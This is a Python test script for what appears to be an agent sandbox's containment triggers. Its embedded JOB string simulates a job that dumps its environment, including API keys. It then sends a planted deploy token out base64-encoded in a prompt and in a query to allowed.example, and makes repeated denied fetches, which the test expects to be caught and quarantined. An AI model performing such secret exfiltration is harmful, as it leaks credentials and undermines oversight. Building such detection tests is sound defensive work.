# SPDX-License-Identifier: Apache-2.0
"""Run by test_triggers.sh: LYCH PORT TOMB WHAT, where codex.yaml has WHAT of each trigger (contain, signal, off). Each is pulled from
inside a real job, and judged from outside as in contain_live.py: by the provider, by /proc and by the log."""
import json
import sys
import time
import uuid

import contain_live as judge
from contain_live import lych, provider, run, state, until

WHAT = sys.argv[4]
DENIALS = 6  # as codex.yaml has it

JOB = """
import base64, json, os, subprocess, sys, threading, time, urllib.error, urllib.parse, urllib.request
word, kind = sys.argv[1:3]
broker, key, planted = (os.environ[x] for x in ("LYCHGATE_BROKER", "OPENAI_API_KEY", "DEPLOY_TOKEN"))
began = threading.Event()

def go(path, body=None):
    rq = urllib.request.Request(broker + path, data=body, headers={"Authorization": "Bearer " + key, "Content-Type": "application/json"})
    return urllib.request.urlopen(rq)

def ask(text):
    return go("/v1/chat/completions", json.dumps({"model": "m", "max_tokens": 20000, "stream": True,
                                                  "messages": [{"role": "user", "content": text}]}).encode())

def refused(what):
    try:
        with what():
            print("let through", flush=True)
    except urllib.error.HTTPError as e:
        print("told", e.code, e.read(), flush=True)

def fetch(url):
    return go("/fetch?url=" + urllib.parse.quote(url, safe=""))

def stream():
    with ask(word) as r:
        while r.read1(65536):
            began.set()

with open("made", "w") as f:
    f.write("made by it")
many = [subprocess.Popen([word, "600"], executable="/bin/sleep") for i in range(5)]
print("environment", json.dumps(dict(os.environ)), flush=True)
if kind == "innocent":
    # an agent that looked at its environment says it at each turn
    for turn in range(2):
        with ask(word + " " + json.dumps(dict(os.environ))) as r:
            r.read1(10)
    refused(lambda: fetch("https://denied.example/"))
else:
    threading.Thread(target=stream, daemon=True).start()
    began.wait(60)
    for i in range(int(sys.argv[3]) - 1 if kind == "denials" else 0):
        refused(lambda: fetch("https://denied.example/%d" % i))
    time.sleep(0.5)
    print("now", time.monotonic(), flush=True)
    time.sleep(0.3)
if kind == "prompt":
    refused(lambda: ask("here: " + base64.b64encode(("it is " + planted).encode()).decode()))
elif kind == "url":
    refused(lambda: fetch("https://allowed.example/?build=" + planted))
elif kind == "denials":
    refused(lambda: fetch("https://denied.example/last"))
print("done", flush=True)
while True:
    print("on", flush=True)
    time.sleep(0.1)
"""


def job(kind, *more):
    word = "trigger" + uuid.uuid4().hex
    with open("job.py", "w", encoding="ascii") as f:
        f.write(JOB)
    return run("--timeout", "10m", "--processes", "100", "--egress", "brokered", "--artifact", "made", "--file", "job.py", "--",
               "python3", "job.py", word, kind, *more), word


def log_of(number):
    """What the audit log has of this job."""
    records = [json.loads(x) for x in lych("audit", "tail", "-n", "5000", "--json").splitlines()]
    return [r for r in records if r.get("metadata", {}).get("correlation_uid") == str(number)]


def events(number, name):
    return [r for r in log_of(number) if r["event"] == name]


def shown(number):
    return json.loads(lych("contain", "--json", "--no-wait", str(number)))


def is_contained(kind, trigger, *more):
    """Everything of a person's, but that no person did it."""
    number, word = job(kind, *more)
    until(lambda: judge.alive(word) > 5 and any(x.last for x in provider.of(word)))
    end = time.monotonic() + 90
    while judge.alive(word):
        assert time.monotonic() < end, lych("logs", str(number))
        time.sleep(0.01)
    dead = time.monotonic()
    until(lambda: all(x.closed for x in provider.of(word)))
    until(lambda: shown(number)["done"])
    said = shown(number)
    output = lych("logs", "--tainted", str(number))
    began = float(output.split("now ")[1].split()[0]) + 0.3
    last = max(x.last for x in provider.of(word))
    print(f"{kind}: last byte {(last - began) * 1000:.0f} ms, last process {(dead - began) * 1000:.0f} ms after it began:",
          *(f"{s['step']} {s['ms']}" for s in said["steps"]), flush=True)
    assert last - began <= judge.LAST_BYTE_SEC and dead - began <= judge.DEAD_SEC, (last - began, dead - began)
    assert said["state"] == "quarantined" == state(number) and said["reason"].startswith(f"trigger {trigger}: "), said
    assert said["tree_dead_by"] == "worker" and said["evidence_sha256"], said
    one, = events(number, "containment.triggered")
    assert one["actor"]["user"]["name"] == "trigger:" + trigger and one["unmapped"]["reason"] == said["reason"], one
    found = events(number, "detection." + trigger)
    assert len(found) == 1 and found[0]["unmapped"]["act"] == "contain", found
    contained, = events(number, "job.contained")
    assert contained["unmapped"]["reason"] == said["reason"], contained
    assert len(events(number, "containment.done")) == 1, log_of(number)
    # it was not told what it was
    assert "planted" not in output.split("now ")[1] and "canary" not in output.split("now ")[1], output
    # nothing was harvested; what it printed is evidence
    assert json.loads(said["evidence"])["artifacts"] == [], said
    for command in (("retry", str(number)), ("logs", str(number)), ("rm", str(number))):
        assert "LYCH-RUN-012" in lych(*command, code=1), command
    why = lych("why", str(number))
    assert said["reason"] in why, why
    return number


def lives_on(kind, *more):
    number, word = job(kind, *more)
    until(lambda: "done" in lych("logs", str(number)))
    time.sleep(1.5)
    assert state(number) == "running" and judge.alive(word) > 5
    before = lych("logs", str(number)).count("\non")
    until(lambda: lych("logs", str(number)).count("\non") > before)
    assert not events(number, "job.contained") and not events(number, "containment.triggered")
    return number, word


def innocent():
    """It has what was planted, prints it, and tells its model of it."""
    number, word = lives_on("innocent")
    output = lych("logs", str(number))
    planted = json.loads(output.split("environment ")[1].split("\n")[0])["DEPLOY_TOKEN"]
    assert len(planted) == 40, planted
    return number, word, planted


def cancel(*numbers):
    for number in numbers:
        lych("cancel", "--no-wait", str(number))


def contain():
    number, word, planted = innocent()
    seen = provider.of(word)
    assert len(seen) == 2 and all(b"<KEY_1>" in x.text and planted.encode() not in x.text for x in seen), [x.text for x in seen]
    assert [e["unmapped"]["replaced"] for e in events(number, "detection.canary") if "planted" in e["unmapped"]] == [True, True]
    fewer, _ = lives_on("denials", str(DENIALS - 1))
    is_contained("prompt", "canary")
    is_contained("url", "canary")
    is_contained("denials", "denials", str(DENIALS))
    assert state(number) == state(fewer) == "running" and judge.alive(word) > 5
    status = json.loads(lych("status", "--json"))["vessel"]["triggers"]
    assert {t["trigger"]: (t["act"], t["pulled"], t["contained"]) for t in status} == {
        "canary": ("contain", 2, 2), "denials": ("contain", 1, 1), "foreign_token": ("signal", 0, 0)}, status
    assert "canary 2 (2 CONTAINED), denials 1 (1 CONTAINED)" in lych("status")
    cancel(number, fewer)


def signal():
    told = {}
    for kind, trigger, more in (("prompt", "canary", ()), ("denials", "denials", (str(DENIALS),))):
        told[trigger], _ = lives_on(kind, *more)
        one, = events(told[trigger], "detection." + trigger)
        assert one["unmapped"]["act"] == "signal", one
    assert "what was planted in its environment" in lych("why", str(told["canary"]))
    assert f"{DENIALS} refusals within 60 s" in lych("why", str(told["denials"]))
    assert "\nsignals: canary 1, denials 1; " in lych("status")
    cancel(*told.values())


def off():
    for kind, trigger, more in (("url", "canary", ()), ("denials", "denials", (str(DENIALS),))):
        number, _ = lives_on(kind, *more)
        assert not events(number, "detection." + trigger), log_of(number)
        cancel(number)
    assert "signals:" not in lych("status")


{"contain": contain, "signal": signal, "off": off}[WHAT]()
